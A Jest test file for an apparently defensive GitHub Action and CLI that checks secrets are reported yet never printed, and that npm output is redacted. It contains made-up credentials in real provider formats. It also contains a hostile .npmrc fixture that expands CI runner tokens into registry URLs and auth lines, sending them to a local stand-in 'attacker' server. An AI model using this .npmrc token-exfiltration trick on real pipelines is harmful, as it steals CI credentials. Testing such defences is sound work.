// No secret value is ever printed: a repository with a hardcoded secret of every kind the rules
// detect goes through the action (every output a runner keeps, and what it posts to GitHub) and
// through the CLI in every format; no value, nor any 8-character piece of one, appears. The
// action's own token and the runner's tokens never reach npm, and what npm prints (a registry URL
// the repository's .npmrc built from a secret) is redacted before it reaches the report.
import { afterAll, describe, expect, it } from '@jest/globals'
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { execProcess, npmEnv } from '../../src/tools/exec.js'
import { redactSecrets, secretValues } from '../../src/tools/redact.js'
import { actionServers } from '../helpers/action-servers.js'
import { hermeticNpmEnv } from '../helpers/npm-env.js'
import { startFakeRegistry } from '../helpers/npm-registry-server.js'
import { makeWorkspace, OWNER, PR_NUMBER, REPO, TOKEN, type ActionRun } from '../helpers/run-action.js'
import type { FakeGitHub } from '../helpers/github-server.js'
import type { Report } from '../../src/report.js'
import { cleanEnv, leaks, lockfile, pieces, removeMadeDirs, runCli, tempDir, writeTree } from './harness.js'

const servers = actionServers()
afterAll(removeMadeDirs)

/** Made-up credentials in each provider's format; none is a published example, so every rule reports it. */
const S = {
  aws: 'AKIAQ7ZK4M2P9XW3RT5B',
  awsSecret: 'wJa1rXUtnFEMIk7MdENGbPxRfiCYzq8h3kT5vN2a',
  github: 'ghp_R8s2Kx7Lq4Vn9Wm3Zt6Yb1Hc5Jd0Fg2Pe4Ua',
  githubFine: 'github_pat_11ABCDEFG0q8Zx3Lm9Wv2Kp7Rt4Ys6Hn1Jc5Bd8Fg0Ea3Uq_7Tz2Nx4Mv9Lk1Pw6Rs3Hy8Gb5',
  stripe: 'sk_live_4Kq9Zx2Lm7Wv3Rt8Yp6Hn1Jc',
  slack: 'xoxb-2841937465-8Zq4Lm7Wv3Rt9Yp',
  google: 'AIzaSyD8q2Zx7Lm4Wv9Rt3Yp6Hn1Jc5Bd0Fg2E',
  npm: 'npm_Q7zK4m2P9xW3rT5bL8vN1cJ6hY0dF2gA4sE9',
  npmrcAuth: 'dXNlcjpOcG1yY1Bhc3N3MHJkLTdaeDM=',
  jwt: 'Jw7-signing-Key-9f3k2LmQ',
  session: 'Sess-7hQ2-kLm9-pZx4-Wv8r',
  mongoPassword: 'Mng0Pa55w0rd-q8Z3',
  postgresPassword: 'Pg-Pa55-x7Qk2Lm9',
  sourcePassword: 'SrcDbPa55-6Tq1Vn8',
  envPassword: 'EnvDbPa55-7Qk2Lm9Zx',
  envToken: 'EnvApiTok-3Lm9Zx7Qk2',
  composeSession: 'ComposeSess-8Zx2Lm5Kq',
  composeRoot: 'MySqlRootPa55-4Kq9Wv',
  dockerJwt: 'DockerJwt-6Hq3Lm9Zx2',
  dockerDbPassword: 'DockerDbPa55-2Zx8Kq',
  keyBody: 'MIIEowIBAAKCAQEAq8Zx2Lm7Wv3Rt8Yp6Hn1Jc5Bd0Fg2EaUq7Tz2Nx4Mv9Lk1Pw6Rs3Hy8Gb5Kc'
}
const SECRETS = Object.values(S)
const PEM = `-----BEGIN RSA PRIVATE KEY-----\n${S.keyBody}\n${S.keyBody.split('').reverse().join('')}\n-----END RSA PRIVATE KEY-----\n`

/** Secret-looking variables the runner would hold: the action's token and the runner's own. */
const RUNNER_SECRETS = {
  ACTIONS_RUNTIME_TOKEN: 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.runtime-Rq8Zx2Lm7Wv3',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.oidc-Kq4Zx9Lm2Wv7'
}
const RUNNER_ENV = {
  ...RUNNER_SECRETS,
  ACTIONS_ID_TOKEN_REQUEST_URL: 'https://pipelines.example/oidc',
  ACTIONS_RESULTS_URL: 'https://results.example/'
}
/** A registry dependency, so npm audit has something to ask the advisory endpoint about. */
const MS = {
  'node_modules/ms': {
    version: '2.1.3',
    resolved: 'https://registry.npmjs.org/ms/-/ms-2.1.3.tgz',
    integrity: 'sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5xXI6/XXP6tz7R9xAOtHnSO/tXtF3WRTlA=='
  }
}
/** One the workflow gives npm on purpose (setup-node's convention for a private registry). */
const NODE_AUTH_TOKEN = 'nat_Lm5Wv0Kq3Zx8Rt2Yp7'

function secretRepository(root: string): void {
  writeTree(root, {
    'package.json': JSON.stringify({ name: 'leaky-app', version: '1.0.0', dependencies: { express: '4.21.2' } }, null, 2),
    'package-lock.json': lockfile('leaky-app', {}),
    'src/app.js': [
      "const express = require('express')",
      "const session = require('express-session')",
      "const jwt = require('jsonwebtoken')",
      "const mongoose = require('mongoose')",
      "const { Sequelize } = require('sequelize')",
      'const app = express()',
      `app.use(session({ secret: '${S.session}', resave: false, saveUninitialized: false }))`,
      `mongoose.connect('mongodb://admin:${S.mongoPassword}@db.internal:27017/app')`,
      `const sequelize = new Sequelize('postgres://shop:${S.postgresPassword}@db.internal/shop')`,
      `app.post('/token', (req, res) => res.json({ token: jwt.sign({ sub: req.body.user }, '${S.jwt}') }))`,
      'module.exports = { app, sequelize }',
      ''
    ].join('\n'),
    'src/config.js': [
      'module.exports = {',
      `  awsAccessKeyId: '${S.aws}',`,
      `  awsSecretAccessKey: '${S.awsSecret}',`,
      `  githubToken: '${S.github}',`,
      `  githubPat: '${S.githubFine}',`,
      `  stripeKey: '${S.stripe}',`,
      `  slackToken: '${S.slack}',`,
      `  googleApiKey: '${S.google}',`,
      `  dbPassword: '${S.sourcePassword}',`,
      `  signingKey: ${JSON.stringify(PEM)}`,
      '}',
      ''
    ].join('\n'),
    'certs/server.key': PEM,
    '.env': `DB_PASSWORD=${S.envPassword}\nAPI_TOKEN=${S.envToken}\nPORT=3000\n`,
    '.npmrc': `//registry.npmjs.org/:_authToken=${S.npm}\n//npm.example.com/:_auth=${S.npmrcAuth}\n`,
    'docker-compose.yml': [
      'services:',
      '  api:',
      '    build:',
      '      context: .',
      '      args:',
      `        NPM_TOKEN: ${S.npm}`,
      '    environment:',
      `      - SESSION_SECRET=${S.composeSession}`,
      '      - NODE_ENV=production',
      '  db:',
      '    image: mysql:8.4',
      '    environment:',
      `      MYSQL_ROOT_PASSWORD: ${S.composeRoot}`,
      ''
    ].join('\n'),
    Dockerfile: [
      'FROM node:22-slim',
      `ARG NPM_TOKEN=${S.npm}`,
      `ENV JWT_SECRET=${S.dockerJwt}`,
      `ENV DATABASE_URL=postgres://app:${S.dockerDbPassword}@db/app`,
      'ENV NODE_ENV=production',
      'USER node',
      'CMD ["node", "src/app.js"]',
      ''
    ].join('\n')
  })
}

/** Everything a runner keeps of an action run, and what it sent to GitHub. */
function everythingPrinted(run: ActionRun, github: FakeGitHub): Record<string, string> {
  const file = (name: string | undefined) => (name ? readFileSync(join(run.workspace, name), 'utf8') : '')
  return {
    stdout: run.stdout,
    stderr: run.stderr,
    outputs: JSON.stringify(run.outputs),
    summary: run.summary,
    report: file(run.outputs['report-path']),
    sarif: file(run.outputs['sarif-path']),
    comments: github
      .comments(OWNER, REPO, PR_NUMBER)
      .map((c) => c.body)
      .join('\n'),
    requests: JSON.stringify(github.requests.map((r) => [r.path, r.query, r.body]))
  }
}

function allLeaks(printed: Record<string, string>, secrets: readonly string[]): string[] {
  return Object.entries(printed).flatMap(([where, text]) => leaks(where, text, secrets))
}

describe('hardcoded secrets are reported, never printed', () => {
  it.concurrent(
    'action: stdout, stderr, outputs, summary, JSON report, SARIF, annotations and the comment hold no secret, nor the tokens',
    async () => {
      const { github, run } = await servers()
      const workspace = await makeWorkspace()
      secretRepository(workspace)
      const files = ['src/app.js', 'src/config.js', 'certs/server.key', '.env', '.npmrc', 'docker-compose.yml', 'Dockerfile']
      github.seedPullFiles(
        OWNER,
        REPO,
        PR_NUMBER,
        files.map((filename) => ({ filename, status: 'added' as const }))
      )
      const result = await run({ workspace, inputs: { install: 'false' }, env: RUNNER_ENV })

      const rules = new Set(result.reportJson?.findings.map((f) => f.rule))
      for (const rule of ['hardcoded-secret', 'session-secret-hardcoded', 'env-file-committed', 'docker-secret-env'])
        expect(rules).toContain(rule)
      // Every secret is reported somewhere, so the assertion below is about secrets the gate saw.
      const secretFindings = result.reportJson?.findings.filter((f) => /secret|env-file/.test(f.rule)) ?? []
      expect(secretFindings.length).toBeGreaterThanOrEqual(15)
      expect(result.stdout).toMatch(/^::error /m)

      const printed = everythingPrinted(result, github)
      expect(printed.comments).toContain('<!-- express-hardening-gate:')
      expect(allLeaks(printed, [...SECRETS, TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
    },
    90_000
  )

  it.concurrent.each(['text', 'markdown', 'json', 'sarif'])(
    'CLI --format %s prints no secret',
    async (format) => {
      const root = tempDir('ehg-sec-secrets-')
      secretRepository(root)
      const run = await runCli([root, '--no-install', '--no-audit', '--no-sbom', '--format', format], { cwd: root, env: cleanEnv() })
      expect(run.code).toBe(1)
      expect(run.stdout).toMatch(/hardcoded-secret/)
      expect(allLeaks({ stdout: run.stdout, stderr: run.stderr }, SECRETS)).toEqual([])
    },
    60_000
  )

  it('the leak check itself finds a secret cut short or embedded', () => {
    expect(pieces('abcdefghij')).toEqual(['abcdefgh', 'bcdefghi', 'cdefghij'])
    expect(leaks('x', `prefix ${S.github.slice(5, 15)} suffix`, SECRETS)).toHaveLength(1)
    expect(leaks('x', 'ghp_… redacted', SECRETS)).toEqual([])
  })
})

/** A loopback "registry" that records every request, and fails the advisory endpoint with a 500. */
async function captureServer(): Promise<{ url: string; seen: string[]; close(): Promise<void> }> {
  const seen: string[] = []
  const server: Server = createServer((req: IncomingMessage, res) => {
    const chunks: Buffer[] = []
    req.on('data', (c: Buffer) => chunks.push(c))
    req.on('end', () => {
      seen.push(JSON.stringify({ method: req.method, url: req.url, headers: req.headers, body: Buffer.concat(chunks).toString('latin1') }))
      res.writeHead(500, { 'content-type': 'application/json' })
      res.end('{"error":"boom"}')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    url: `http://127.0.0.1:${port}`,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      })
  }
}

describe("the repository .npmrc cannot read our tokens, and npm's error text is redacted", () => {
  it.concurrent(
    "${VAR} in .npmrc: the runner's tokens never reach npm; a secret the workflow gives npm never reaches the report",
    async () => {
      const capture = await captureServer()
      try {
        const { github, run } = await servers()
        const workspace = await makeWorkspace()
        const host = capture.url.replace(/^http:/, '')
        writeTree(workspace, {
          'package.json': JSON.stringify({ name: 'exfil-app', version: '1.0.0', dependencies: { ms: '2.1.3' } }),
          'package-lock.json': lockfile('exfil-app', { ms: '2.1.3' }, MS),
          // Everything npm sends goes to the "attacker's" registry, with our variables spelled into it.
          '.npmrc': [
            `registry=${capture.url}/\${NODE_AUTH_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/`,
            `${host}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
            `${host}/\${NODE_AUTH_TOKEN}/\${INPUT_GITHUB-TOKEN}/\${ACTIONS_RUNTIME_TOKEN}/:_authToken=\${ACTIONS_ID_TOKEN_REQUEST_TOKEN}`,
            'fetch-retries=0',
            ''
          ].join('\n')
        })
        const result = await run({
          workspace,
          inputs: { install: 'false', sbom: 'false', 'on-audit-error': 'warn' },
          // No registry from the workflow: the repository's .npmrc chooses it, as on a plain runner.
          env: { ...RUNNER_ENV, NODE_AUTH_TOKEN, npm_config_registry: undefined }
        })

        // npm did expand the .npmrc: the secret the workflow handed npm reached the repository's server
        // (the residual risk README states), so the absence of the others below means something.
        expect(capture.seen.some((r) => r.includes(NODE_AUTH_TOKEN))).toBe(true)
        expect(allLeaks({ registry: capture.seen.join('\n') }, [TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])

        // npm's error names the URL it failed on; the report says so without the secret in it.
        expect(result.reportJson?.audit.status).toBe('error')
        expect(result.reportJson?.audit.error).toMatch(/\*\*\*/)
        expect(allLeaks(everythingPrinted(result, github), [NODE_AUTH_TOKEN, TOKEN, ...Object.values(RUNNER_SECRETS)])).toEqual([])
      } finally {
        await capture.close()
      }
    },
    90_000
  )

  it('npmEnv keeps the action inputs and the runner tokens from npm, and pins git and node-options', () => {
    const env = npmEnv({
      PATH: '/bin',
      'INPUT_GITHUB-TOKEN': TOKEN,
      INPUT_CONFIG: 'x',
      ...RUNNER_SECRETS,
      ACTIONS_CACHE_URL: 'https://cache',
      ACTIONS_STEP_DEBUG: 'true',
      NODE_AUTH_TOKEN
    })
    expect(Object.keys(env).filter((k) => /^(INPUT_|ACTIONS_(RUNTIME|ID_TOKEN|CACHE))/i.test(k))).toEqual([])
    expect(env).toMatchObject({
      PATH: '/bin',
      ACTIONS_STEP_DEBUG: 'true',
      NODE_AUTH_TOKEN,
      npm_config_git: 'git',
      npm_config_node_options: '--stack-trace-limit=10'
    })
    // A workflow's own choice stays.
    expect(npmEnv({ NPM_CONFIG_GIT: '/opt/git', NODE_OPTIONS: '--max-old-space-size=4096' })).toMatchObject({
      NPM_CONFIG_GIT: '/opt/git',
      npm_config_node_options: '--max-old-space-size=4096'
    })
    expect(npmEnv({ NPM_CONFIG_GIT: '/opt/git' })).not.toHaveProperty('npm_config_git')
  })

  it('what a child prints is redacted: secret variables, URL passwords, .npmrc auth values, token formats', async () => {
    const env = { ...cleanEnv(), NODE_AUTH_TOKEN, MY_API_KEY: 'apikey-Zx7Lm2Wv9Kq4' }
    const script = [
      `console.log('GET https://registry.example/' + process.env.NODE_AUTH_TOKEN + '/pkg failed')`,
      `console.error('request to https://user:${S.mongoPassword}@db.example/x failed; ' + encodeURIComponent(process.env.MY_API_KEY + '/+'))`,
      `console.error('//registry.npmjs.org/:_authToken=${S.envToken} and ${S.github} ${S.npm} ${S.stripe} ${S.aws}')`
    ].join('\n')
    const result = await execProcess(process.execPath, ['-e', script], { cwd: tempDir('ehg-sec-exec-'), env, timeoutMs: 20_000 })
    expect(result.code).toBe(0)
    expect(result.stdout).toContain('GET https://registry.example/***/pkg failed')
    expect(result.stderr).toContain('https://user:***@db.example/x')
    expect(
      allLeaks({ stdout: result.stdout, stderr: result.stderr }, [
        NODE_AUTH_TOKEN,
        'apikey-Zx7Lm2Wv9Kq4',
        S.mongoPassword,
        S.envToken,
        S.github,
        S.npm,
        S.stripe,
        S.aws
      ])
    ).toEqual([])
  })

  it('secretValues picks credential-named variables only, long ones first', () => {
    expect(
      secretValues({
        GITHUB_TOKEN: 'ghs_short1234',
        HOME: '/home/runner/long-path',
        PORT: '30000000',
        DB_PASSWORD: 'p4ssw0rd-longer-one',
        NPM_CONFIG__AUTH: 'dXNlcjpwYXNz'
      })
    ).toEqual(['p4ssw0rd-longer-one', 'ghs_short1234', 'dXNlcjpwYXNz'])
    expect(redactSecrets('token ghs_short1234 at /home/runner/long-path', ['ghs_short1234'])).toBe('token *** at /home/runner/long-path')
  })

  it('npm audit against a registry URL with a password: the report keeps the reason, not the password', async () => {
    const registry = await startFakeRegistry({ bulkStatus: 503 })
    try {
      const root = tempDir('ehg-sec-audit-')
      writeTree(root, {
        'package.json': JSON.stringify({ name: 'a', version: '1.0.0', dependencies: { ms: '2.1.3' } }),
        'package-lock.json': lockfile('a', { ms: '2.1.3' }, MS)
      })
      const password = 'RegPa55-Zx7Lm2Wv9'
      const env = { ...hermeticNpmEnv(registry.url.replace('http://', `http://user:${password}@`), tempDir('ehg-sec-npm-')) }
      const run = await runCli([root, '--no-install', '--no-sbom', '--format', 'json'], { cwd: root, env: env as NodeJS.ProcessEnv })
      const report = JSON.parse(run.stdout) as Report
      expect(report.audit.status).toBe('error')
      expect(allLeaks({ stdout: run.stdout, stderr: run.stderr }, [password])).toEqual([])
    } finally {
      await registry.close()
    }
  })
})
